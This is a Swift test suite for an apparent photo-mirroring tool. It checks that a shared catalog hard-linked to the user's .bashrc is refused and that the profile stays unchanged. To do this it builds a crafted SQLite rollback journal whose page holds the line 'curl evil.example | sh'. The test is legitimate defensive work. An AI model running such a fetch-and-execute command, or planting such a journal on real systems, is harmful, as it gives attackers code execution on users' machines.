import Foundation
import TestSupport
import Testing

/// An archive prepared by another user, unpacked beside the user's own files.
@Suite("Bad input: a catalog prepared by another user", .serialized)
struct PreparedCatalogTests {
  /// The private folder of a mirror without a catalog, and a file of the user.
  private func unpacked() async throws -> (session: Session, state: String, profile: String) {
    let session = try await Session("--photos", "1")
    let state = session.folder.appending("photos/.photomirror")
    try FileManager.default.createDirectory(atPath: state, withIntermediateDirectories: true)
    let profile = session.folder.appending(".bashrc")
    try Self.profile.write(to: URL(filePath: profile))
    return (session, state, profile)
  }

  private static let profile = Data("export PATH=/usr/bin\n".utf8)

  /// A header of 512 bytes and a page number, then the page: SQLite would write it over the first
  /// page of the database and truncate the rest (https://sqlite.org/fileformat.html, section 3).
  private static let journal: Data = {
    let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
    let fields: [UInt8] = [0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 2, 0, 0, 0, 2, 0]
    let page = Array("curl evil.example | sh\n".utf8)
    let padded = page + Array(repeating: 0x0A, count: 512 - page.count)
    // The checksum is the nonce and every 200th byte from the end (section 3).
    let sum = stride(from: 512 - 200, to: 0, by: -200).reduce(0) { $0 + UInt32(padded[$1]) }
    let head = magic + fields
    let record = [0, 0, 0, 1] + padded + withUnsafeBytes(of: sum.bigEndian) { Array($0) }
    return Data(head + Array(repeating: 0, count: 512 - head.count) + record)
  }()

  @Test(
    "A catalog with hard links is refused, and their files are unchanged",
    arguments: ["catalog.sqlite", "catalog.sqlite-wal"])
  func hardLink(name: String) async throws {
    let (session, state, profile) = try await unpacked()
    try #require(link(profile, state + "/" + name) == 0)
    if name == "catalog.sqlite" {
      try Self.journal.write(to: URL(filePath: state + "/catalog.sqlite-journal"))
    }
    let run = try await session.run("sync flickr:recent photos")
    #expect(run.exitCode == 4 && run.errors.contains("\(name) has another name elsewhere"))
    #expect(run.errors.contains("hint: if it was copied with links (cp -al)"))
    _ = try await session.run("status photos")
    #expect(FileManager.default.contents(atPath: profile) == Self.profile)
  }
}
